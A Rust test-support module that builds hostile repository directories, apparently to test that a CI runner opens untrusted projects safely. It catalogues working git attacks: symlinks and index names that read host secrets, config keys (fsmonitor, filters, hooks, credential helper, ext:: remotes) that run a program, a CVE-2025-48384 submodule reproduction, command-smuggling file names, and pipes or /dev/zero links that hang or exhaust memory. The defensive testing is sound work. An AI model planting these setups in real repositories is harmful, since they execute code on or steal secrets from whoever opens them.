//! A generator of hostile projects: directories as they come out of a stranger's archive, each with one attack on whoever
//! opens it.
//!
//! Around the project lie things of the host that nobody may read into a job ([`SECRET`] stands in each), and a program
//! that nobody may run. git would never clone such projects; `tar` unpacks them.

use std::fs;
use std::io::Write as _;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};

use crate::program::Program;

/// Stands in everything of the host that lies outside of the project.
pub const SECRET: &str = "HOST-SECRET-41d8cd98f00b";

/// One attack.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    pub name: &'static str,
    make: fn(&Hostile),
}

/// A project made by an attack, and what lies around it.
#[derive(Debug)]
pub struct Hostile {
    project: PathBuf,
    outside: PathBuf,
}

impl Hostile {
    /// Makes the attack's project in an empty directory, and beside it what it is after.
    #[track_caller]
    pub fn make(attack: &Attack, project: &Path, outside: &Path, config: &str) -> Self {
        let made = Self { project: project.to_owned(), outside: outside.to_owned() };
        made.host();
        made.ordinary(config);
        (attack.make)(&made);
        made
    }

    /// What programs that were run have said of themselves.
    pub fn ran(&self) -> String {
        fs::read_to_string(self.outside.join("ran")).unwrap_or_default()
    }

    /// Files of the host, a private repository with objects loose and packed, and the program.
    fn host(&self) {
        self.put_outside("secret", SECRET);
        self.put_outside("dir/secret", SECRET);
        self.put_outside("config", &format!("[remote \"origin\"]\n\turl = https://example.com/{SECRET}/x.git\n"));
        self.put_outside("patterns", "kept\n");
        let ran = self.outside.join("ran");
        self.put_outside("evil", &format!("#!/bin/sh\necho \"$0 $*\" >> '{}'\ncat\n", ran.display()));
        fs::set_permissions(self.outside.join("evil"), fs::Permissions::from_mode(0o755)).expect("a mode can be set");
        let private = self.outside.join("private");
        self.put_outside("private/file", SECRET);
        git(&private, &["init", "--quiet", "--initial-branch=main"]);
        git(&private, &["add", "--all"]);
        git(&private, &["commit", "--quiet", "--message", SECRET]);
        git(&private, &["repack", "-a", "--quiet"]);
        git(&private, &["config", "remote.origin.url", &format!("https://example.com/{SECRET}/x.git")]);
    }

    /// What the project would be without the attack.
    fn ordinary(&self, config: &str) {
        self.put(".circleci/config.yml", config);
        self.put("file", "harmless\n");
        self.put("kept", "harmless, too\n");
        self.put("package.json", "{}\n");
        self.git(&["init", "--quiet", "--initial-branch=main"]);
        self.git(&["add", "--all"]);
        self.git(&["commit", "--quiet", "--message", "harmless"]);
    }

    fn put(&self, name: &str, text: impl AsRef<[u8]>) {
        put(&self.project.join(name), text.as_ref());
    }

    fn put_outside(&self, name: &str, text: &str) {
        put(&self.outside.join(name), text.as_bytes());
    }

    fn git(&self, words: &[&str]) {
        git(&self.project, words);
    }

    /// Appends to the repository's settings, `EVIL` being the program.
    fn set(&self, text: &str) {
        let path = self.project.join(".git/config");
        let mut file = fs::File::options().append(true).open(path).expect("there are settings");
        file.write_all(text.replace("EVIL", &self.outside("evil")).as_bytes()).expect("settings can be written");
    }

    fn outside(&self, name: &str) -> String {
        self.outside.join(name).display().to_string()
    }

    fn remove(&self, name: &str) {
        let path = self.project.join(name);
        match fs::symlink_metadata(&path) {
            Ok(meta) if meta.is_dir() => fs::remove_dir_all(path).expect("it can be removed"),
            Ok(_) => fs::remove_file(path).expect("it can be removed"),
            Err(_) => {}
        }
    }

    fn link(&self, name: &str, target: impl AsRef<Path>) {
        self.remove(name);
        let path = self.project.join(name);
        fs::create_dir_all(path.parent().expect("it is in a directory")).expect("a directory can be made");
        symlink(target, path).expect("a link can be made");
    }

    fn link_out(&self, name: &str, target: &str) {
        self.link(name, self.outside.join(target));
    }

    fn pipe(&self, name: &str) {
        self.remove(name);
        let path = self.project.join(name);
        fs::create_dir_all(path.parent().expect("it is in a directory")).expect("a directory can be made");
        Program::new("mkfifo").args([path]).run().succeeded();
    }

    fn sparse(&self, name: &str, length: u64) {
        self.remove(name);
        let path = self.project.join(name);
        fs::create_dir_all(path.parent().expect("it is in a directory")).expect("a directory can be made");
        fs::File::create(path).and_then(|file| file.set_len(length)).expect("a sparse file can be made");
    }

    /// An index that lists these names, which git itself would refuse to add.
    fn index(&self, names: &[&str]) {
        let mut bytes =
            [&b"DIRC"[..], &2_u32.to_be_bytes(), &u32::try_from(names.len()).expect("few").to_be_bytes()].concat();
        for name in names {
            let start = bytes.len();
            // Times, device, inode: none; a regular file; owner, group, size: none.
            bytes.extend([0; 24]);
            bytes.extend(0o100_644_u32.to_be_bytes());
            bytes.extend([0; 12]);
            bytes.extend([0x11; 20]);
            bytes.extend(u16::try_from(name.len()).expect("short").to_be_bytes());
            bytes.extend(name.as_bytes());
            let padding = 8 - (bytes.len() - start) % 8;
            bytes.extend(vec![0; padding]);
        }
        // No digest: git takes that for one that was left out.
        bytes.extend([0; 20]);
        self.put(".git/index", bytes);
    }

    /// Directories in the place of `.git`, each with settings that hold a secret: listed by the index, and in the tree, at its
    /// top and further below.
    fn git_by_other_names(&self, names: &[&str]) {
        let files: Vec<String> =
            names.iter().flat_map(|name| [format!("{name}/config"), format!("below/{name}/config")]).collect();
        for file in &files {
            self.put(file, format!("[http]\n\textraheader = {SECRET}\n"));
        }
        let mut listed: Vec<&str> = files.iter().map(String::as_str).chain(["file"]).collect();
        listed.sort_unstable();
        self.index(&listed);
    }

    fn nested(&self, name: &str) -> PathBuf {
        let path = self.project.join(name);
        fs::create_dir_all(&path).expect("a directory can be made");
        put(&path.join("inner"), b"inner\n");
        git(&path, &["init", "--quiet", "--initial-branch=main"]);
        git(&path, &["add", "--all"]);
        git(&path, &["commit", "--quiet", "--message", "nested"]);
        path
    }

    /// `file` differs from what the index says, so that git looks into it.
    fn dirty(&self) {
        self.put("file", "harmful\n");
    }
}

fn put(path: &Path, bytes: &[u8]) {
    fs::create_dir_all(path.parent().expect("a file is in a directory")).expect("a directory can be made");
    fs::write(path, bytes).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
}

fn git(directory: &Path, words: &[&str]) {
    let who = ["-c", "user.name=Story", "-c", "user.email=story@example.invalid", "-c", "commit.gpgsign=false"];
    Program::new("git")
        .args(who)
        .args(words)
        .directory(directory)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .run()
        .succeeded();
}

const FILTER: &str = "[filter \"x\"]\n\tclean = EVIL clean\n\tsmudge = EVIL smudge\n\trequired = true\n";

macro_rules! attacks {
    ($($name:literal: $make:expr;)+) => { &[$(Attack { name: $name, make: $make }),+] };
}

/// Every kind of attack.
pub const ATTACKS: &[Attack] = attacks! {
    // The host is to be read into the job.
    "an absolute name in the index": |it| it.index(&[&it.outside("secret")]);
    "a name of the index that leads up": |it| {
        let name = it.outside.file_name().expect("it has a name").to_string_lossy().into_owned();
        it.index(&[&format!("../{name}/secret"), &format!("kept/../../{name}/secret"), "./file"]);
    };
    "a name of the index below a link": |it| {
        it.link_out("d", "dir");
        it.index(&["d/secret", "file"]);
    };
    "the settings' file in the index": |it| {
        it.set(&format!("[http]\n\textraheader = {SECRET}\n"));
        it.index(&[".git/config", ".GIT/config", "file"]);
    };
    // On a disk of Windows or of a Mac these lead to the git directory. Here they are what such a disk would show.
    "a stream of .git in the index": |it| it.git_by_other_names(&[".git::$INDEX_ALLOCATION", ".GIT :x", ".git:a:b"]);
    "characters in .git that HFS+ ignores": |it| {
        it.git_by_other_names(&[".g\u{200c}it", ".git\u{200d}", "\u{feff}.Git", ".gi\u{206a}t"]);
    };
    "dots and blanks behind .git": |it| it.git_by_other_names(&[".git.", ".git ", ".git. .", ".GIT..."]);
    "the short name of .git": |it| it.git_by_other_names(&["git~1", "GIT~1", "git~1 ", "git~1::$DATA"]);
    "other names of .git where there is no repository": |it| {
        it.git_by_other_names(&[".GIT", ".git.", ".git::$INDEX_ALLOCATION", ".g\u{200c}it", "git~1"]);
        it.remove(".git");
    };
    "a link for MERGE_MSG": |it| it.link_out(".git/MERGE_MSG", "secret");
    "a link for info/exclude": |it| it.link_out(".git/info/exclude", "secret");
    "a link for info/attributes": |it| it.link_out(".git/info/attributes", "secret");
    "a link for the info directory": |it| {
        it.put_outside("dir/exclude", SECRET);
        it.link_out(".git/info", "dir");
    };
    "a link for a directory of a rebase": |it| it.link_out(".git/rebase-merge", "dir");
    "a link for a shared index": |it| it.link_out(".git/sharedindex.1111111111111111111111111111111111111111", "secret");
    "a link for shallow": |it| it.link_out(".git/shallow", "secret");
    "a link for HEAD": |it| it.link_out(".git/HEAD", "secret");
    "a link for HEAD's log": |it| {
        it.git(&["checkout", "--quiet", "--detach"]);
        let id = "1".repeat(40);
        it.put_outside("log", &format!("{id} {id} a <a> 1 +0000\tcheckout: moving from {SECRET} to {SECRET}\n"));
        it.link_out(".git/logs/HEAD", "log");
    };
    "a link for a branch": |it| it.link_out(".git/refs/heads/main", "private/.git/refs/heads/main");
    "a link for packed-refs": |it| it.link_out(".git/packed-refs", "secret");
    "a link for the index": |it| it.link_out(".git/index", "private/.git/index");
    "a link for a pack": |it| {
        let packs = fs::read_dir(it.outside.join("private/.git/objects/pack")).expect("there are packs");
        for pack in packs.flatten() {
            let name = pack.file_name().to_string_lossy().into_owned();
            it.link(&format!(".git/objects/pack/{name}"), pack.path());
        }
    };
    "a link for the objects": |it| it.link_out(".git/objects", "private/.git/objects");
    "a link for the settings": |it| it.link_out(".git/config", "private/.git/config");
    "a link for .git": |it| it.link_out(".git", "private/.git");
    "a .git that names a private repository": |it| {
        it.remove(".git");
        it.put(".git", format!("gitdir: {}\n", it.outside("private/.git")));
    };
    "a commondir of a private repository": |it| it.put(".git/commondir", it.outside("private/.git"));
    "a working tree of a private repository": |it| {
        it.remove(".git");
        it.put(".git", "gitdir: made/worktrees/x\n");
        it.put("made/worktrees/x/HEAD", "ref: refs/heads/main\n");
        it.put("made/worktrees/x/gitdir", it.project.join(".git").display().to_string());
        it.put("made/worktrees/x/commondir", it.outside("private/.git"));
    };
    "alternates of a private repository": |it| {
        let id = fs::read_to_string(it.outside.join("private/.git/refs/heads/main")).expect("there is a branch");
        it.put(".git/objects/info/alternates", it.outside("private/.git/objects"));
        it.put(".git/refs/heads/main", id);
    };
    "a link for the alternates": |it| {
        it.put_outside("alternates", &it.outside("private/.git/objects"));
        it.link_out(".git/objects/info/alternates", "alternates");
    };
    "settings that include others": |it| {
        it.set(&format!("[include]\n\tpath = {}\n", it.outside("config")));
        it.set(&format!("[includeIf \"gitdir:/\"]\n\tpath = {}\n", it.outside("config")));
    };
    "a working tree of settings": |it| it.set(&format!("[core]\n\tworktree = {}\n", it.outside("dir")));
    "patterns of the host": |it| it.set(&format!("[core]\n\texcludesfile = {}\n", it.outside("patterns")));
    "a nested .git that names a private repository": |it| {
        it.put("nested/.git", format!("gitdir: {}\n", it.outside("private/.git")));
    };
    "a nested .git that is a link": |it| it.link_out("nested/.git", "private/.git");
    "a nested repository with links for files": |it| {
        it.nested("nested");
        it.link_out("nested/.git/MERGE_MSG", "secret");
    };
    "a nested repository with foreign objects": |it| {
        it.nested("nested");
        it.put("nested/.git/objects/info/alternates", it.outside("private/.git/objects"));
    };
    "a submodule's git directory that is a link": |it| {
        it.put("sub/.git", "gitdir: ../.git/modules/sub\n");
        it.link_out(".git/modules/sub", "private/.git");
    };
    "a config that is a link": |it| {
        let text = fs::read_to_string(it.project.join(".circleci/config.yml")).expect("there is a config");
        it.put_outside("config.yml", &text.replace("# step", &format!("echo {SECRET}")));
        it.link_out(".circleci/config.yml", "config.yml");
    };
    "a directory of the config that is a link": |it| {
        let text = fs::read_to_string(it.project.join(".circleci/config.yml")).expect("there is a config");
        it.put_outside("circleci/config.yml", &text.replace("# step", &format!("echo {SECRET}")));
        it.link_out(".circleci", "circleci");
    };
    "an orb that is a link": |it| {
        let orb = format!("version: 2.1\ncommands: {{leak: {{steps: [run: echo {SECRET}]}}}}\n");
        it.put_outside("orb.yml", &orb);
        it.link_out(".circleci/orbs/a/b@1.0.0.yml", "orb.yml");
        let path = it.project.join(".circleci/config.yml");
        let text = fs::read_to_string(&path).expect("there is a config");
        it.put(".circleci/config.yml", text.replace("jobs:\n  build", "orbs: {o: a/b@1.0.0}\njobs:\n  build").replace("- checkout", "- checkout\n      - o/leak"));
    };
    "a lock of orbs that is a link": |it| it.link_out(".circleci/orbs.lock", "secret");
    "a file of a key that is a link": |it| it.link_out("package.json", "secret");
    // A program is to run on the host.
    "a file system monitor": |it| it.set("[core]\n\tfsmonitor = EVIL fsmonitor\n");
    "hooks": |it| {
        for hook in ["post-checkout", "pre-auto-gc", "post-index-change", "reference-transaction", "fsmonitor-watchman"] {
            it.link_out(&format!(".git/hooks/{hook}"), "evil");
        }
        it.link_out("hooks/post-index-change", "evil");
        it.set("[core]\n\thookspath = hooks\n");
    };
    "a filter": |it| {
        it.put(".gitattributes", "* filter=x\n");
        it.set(FILTER);
        it.dirty();
    };
    "a filter that is a process": |it| {
        it.put(".git/info/attributes", "* filter=x\n");
        it.set("[filter \"x\"]\n\tprocess = EVIL process\n\trequired = true\n");
        it.dirty();
    };
    "a filter in settings of the working tree": |it| {
        it.put(".gitattributes", "* filter=x\n");
        it.set("[extensions]\n\tworktreeConfig = true\n");
        it.put(".git/config.worktree", FILTER.replace("EVIL", &it.outside("evil")));
        it.dirty();
    };
    "a filter in settings that are included": |it| {
        it.put(".gitattributes", "* filter=x\n");
        it.put("settings", FILTER.replace("EVIL", &it.outside("evil")));
        it.set("[include]\n\tpath = ../settings\n");
        it.dirty();
    };
    "a text conversion and a program for differences": |it| {
        it.put(".gitattributes", "* diff=x\n");
        it.set("[diff \"x\"]\n\ttextconv = EVIL textconv\n\tcommand = EVIL diff\n[diff]\n\texternal = EVIL external\n");
        it.dirty();
    };
    "a pager, editor and helpers": |it| it.set(
        "[core]\n\tpager = EVIL pager\n\teditor = EVIL editor\n\taskPass = EVIL askpass\n\tsshCommand = EVIL ssh\n\tgitProxy = EVIL\n\
         \talternateRefsCommand = EVIL refs\n[pager]\n\tlog = EVIL log\n\tconfig = EVIL config\n\tstatus = true\n\
         [credential]\n\thelper = !EVIL credential\n[sequence]\n\teditor = EVIL\n[interactive]\n\tdiffFilter = EVIL\n",
    );
    "signatures to be shown": |it| {
        it.set("[log]\n\tshowSignature = true\n[gpg]\n\tprogram = EVIL gpg\n[gpg \"ssh\"]\n\tprogram = EVIL gpg\n");
        let commit = "tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\nauthor a <a> 1 +0000\ncommitter a <a> 1 +0000\n\
                      gpgsig -----BEGIN PGP SIGNATURE-----\n \n aaaa\n -----END PGP SIGNATURE-----\n\nsigned\n";
        it.put("commit", commit);
        it.git(&["hash-object", "-t", "tree", "-w", "/dev/null"]);
        let words = ["-c", "git update-ref HEAD $(git hash-object -t commit -w commit)"];
        Program::new("sh").args(words).directory(&it.project).run().succeeded();
    };
    "a promising remote by ext": |it| {
        it.set("[remote \"origin\"]\n\turl = ext::EVIL promisor\n\tpromisor = true\n[protocol]\n\tallow = always\n\
                [extensions]\n\tpartialClone = origin\n[core]\n\trepositoryformatversion = 1\n");
        it.put(".git/refs/heads/main", "1".repeat(40));
    };
    "a promising remote with its own upload-pack": |it| {
        it.set(&format!("[remote \"origin\"]\n\turl = {}\n\tuploadpack = EVIL upload\n\tpromisor = true\n\
                [extensions]\n\tpartialClone = origin\n[core]\n\trepositoryformatversion = 1\n", it.outside("private")));
        it.put(".git/refs/heads/main", "1".repeat(40));
    };
    "aliases": |it| it.set(
        "[alias]\n\tlog = !EVIL\n\tstatus = !EVIL\n\tls-files = !EVIL\n\tconfig = !EVIL\n\tfor-each-ref = !EVIL\n",
    );
    "a sparse index": |it| {
        it.git(&["sparse-checkout", "set", "--cone", "--sparse-index", ".circleci"]);
        it.set("[core]\n\tfsmonitor = EVIL sparse\n");
    };
    "a nested repository with programs": |it| {
        let nested = it.nested("nested");
        put(&nested.join(".gitattributes"), b"* filter=x diff=x\n");
        let text = format!("{FILTER}[core]\n\tfsmonitor = EVIL nested\n").replace("EVIL", &it.outside("evil"));
        let mut file = fs::File::options().append(true).open(nested.join(".git/config")).expect("there are settings");
        file.write_all(text.as_bytes()).expect("settings can be written");
        put(&nested.join("inner"), b"other\n");
    };
    "a submodule with programs": |it| {
        let nested = it.nested("sub");
        put(&nested.join(".gitattributes"), b"* filter=x\n");
        it.put(".gitmodules", "[submodule \"sub\"]\n\tpath = sub\n\turl = ./sub\n\tupdate = !touch x\n");
        it.git(&["add", ".gitmodules", "sub"]);
        let text = format!("{FILTER}[core]\n\tfsmonitor = EVIL sub\n").replace("EVIL", &it.outside("evil"));
        let mut file = fs::File::options().append(true).open(nested.join(".git/config")).expect("there are settings");
        file.write_all(text.as_bytes()).expect("settings can be written");
        put(&nested.join("inner"), b"other\n");
    };
    // What git wrote of it was another directory than the one that it had checked: CVE-2025-48384.
    "a carriage return in a submodule's path": |it| {
        let sub = it.nested("sub\r");
        it.put(".gitmodules", "[submodule \"x\"]\n\tpath = \"sub\r\"\n\turl = ./x\n\tupdate = checkout\n");
        it.git(&["add", ".gitmodules", "sub\r"]);
        fs::create_dir_all(it.project.join(".git/modules")).expect("a directory can be made");
        fs::rename(sub.join(".git"), it.project.join(".git/modules/x")).expect("it can be moved");
        it.put("sub\r/.git", "gitdir: ../.git/modules/x\n");
        let settings = "[core]\n\trepositoryformatversion = 0\n\tworktree = ../../../sub\r\n\tfsmonitor = EVIL sub\n";
        it.put(".git/modules/x/config", settings.replace("EVIL", &it.outside("evil")));
        for hook in ["post-checkout", "post-index-change"] {
            it.link_out(&format!(".git/modules/x/hooks/{hook}"), "evil");
        }
        it.link("sub", ".git/modules/x/hooks");
        it.set("[submodule \"x\"]\n\turl = \"ext::EVIL\r\"\n\tactive = true\n\tupdate = !EVIL update\n");
    };
    "a carriage return behind the path of a git directory": |it| {
        it.remove(".git");
        it.put(".git", format!("gitdir: {}\r\n", it.outside("private/.git")));
    };
    "programs called like the host's": |it| {
        for name in ["git", "iptables", "ip6tables", "docker", "docker-credential-x", "sh", "tar", "ssh"] {
            it.link_out(name, "evil");
            it.link_out(&format!("bin/{name}"), "evil");
        }
    };
    "names that a shell would run": |it| {
        let name = it.outside("evil").replace('/', "\\057");
        it.put("$(touch ran)", "x");
        it.put("`touch ran`", "x");
        it.put("-rf", "x");
        it.put("a\nb; touch ran", name);
        it.git(&["checkout", "--quiet", "-b", "$(touch${IFS}ran)"]);
        it.git(&["tag", "v1`id`"]);
    };
    // It is to hang.
    "a pipe for .git": |it| it.pipe(".git");
    "a pipe for HEAD": |it| it.pipe(".git/HEAD");
    "a pipe for the settings": |it| it.pipe(".git/config");
    "a pipe for the index": |it| it.pipe(".git/index");
    "a pipe for packed-refs": |it| it.pipe(".git/packed-refs");
    "a pipe for a branch": |it| it.pipe(".git/refs/heads/main");
    "a pipe for commondir": |it| it.pipe(".git/commondir");
    "a pipe for the alternates": |it| it.pipe(".git/objects/info/alternates");
    "a pipe for info/exclude": |it| it.pipe(".git/info/exclude");
    "a pipe for an object": |it| it.pipe(".git/objects/11/11111111111111111111111111111111111111");
    "a pipe for a pack's index": |it| {
        it.put(".git/objects/pack/pack-1111111111111111111111111111111111111111.pack", "");
        it.pipe(".git/objects/pack/pack-1111111111111111111111111111111111111111.idx");
    };
    "a pipe for .gitignore": |it| it.pipe(".gitignore");
    "a pipe for .gitmodules and .gitattributes": |it| {
        it.pipe(".gitmodules");
        it.pipe(".gitattributes");
    };
    "a pipe that settings include": |it| {
        it.pipe("pipe");
        it.set("[include]\n\tpath = ../pipe\n[core]\n\texcludesfile = pipe\n\tattributesfile = pipe\n");
    };
    "a pipe in a nested repository": |it| {
        it.nested("nested");
        it.pipe("nested/.git/HEAD");
    };
    "a pipe for the config": |it| it.pipe(".circleci/config.yml");
    "a pipe for the lock of orbs": |it| it.pipe(".circleci/orbs.lock");
    "a pipe for the project's settings": |it| it.pipe(".navvy.toml");
    "a pipe for a file of a key": |it| it.pipe("package.json");
    // All memory is to be eaten.
    "an endless lock of orbs": |it| it.link(".circleci/orbs.lock", "/dev/zero");
    "an endless config": |it| it.link(".circleci/config.yml", "/dev/zero");
    "endless settings of the project": |it| it.link(".navvy.toml", "/dev/zero");
    "endless git settings": |it| it.link(".git/config", "/dev/zero");
    "an endless HEAD": |it| it.link(".git/HEAD", "/dev/zero");
    "an endless state of a merge": |it| it.link(".git/MERGE_MSG", "/dev/zero");
    "endless alternates": |it| it.link(".git/objects/info/alternates", "/dev/zero");
    "a huge index": |it| it.sparse(".git/index", 16 << 30);
    "huge packed-refs": |it| it.sparse(".git/packed-refs", 16 << 30);
    "huge git settings": |it| it.sparse(".git/config", 16 << 30);
    // As a file of the tree it is copied into the job, whatever that takes; git reads it as well.
    "a huge .gitignore": |it| it.sparse(".gitignore", 128 << 20);
    "a huge .gitattributes": |it| it.sparse(".gitattributes", 128 << 20);
    "a huge config": |it| it.sparse(".circleci/config.yml", 16 << 30);
    "a huge lock of orbs": |it| it.sparse(".circleci/orbs.lock", 16 << 30);
};
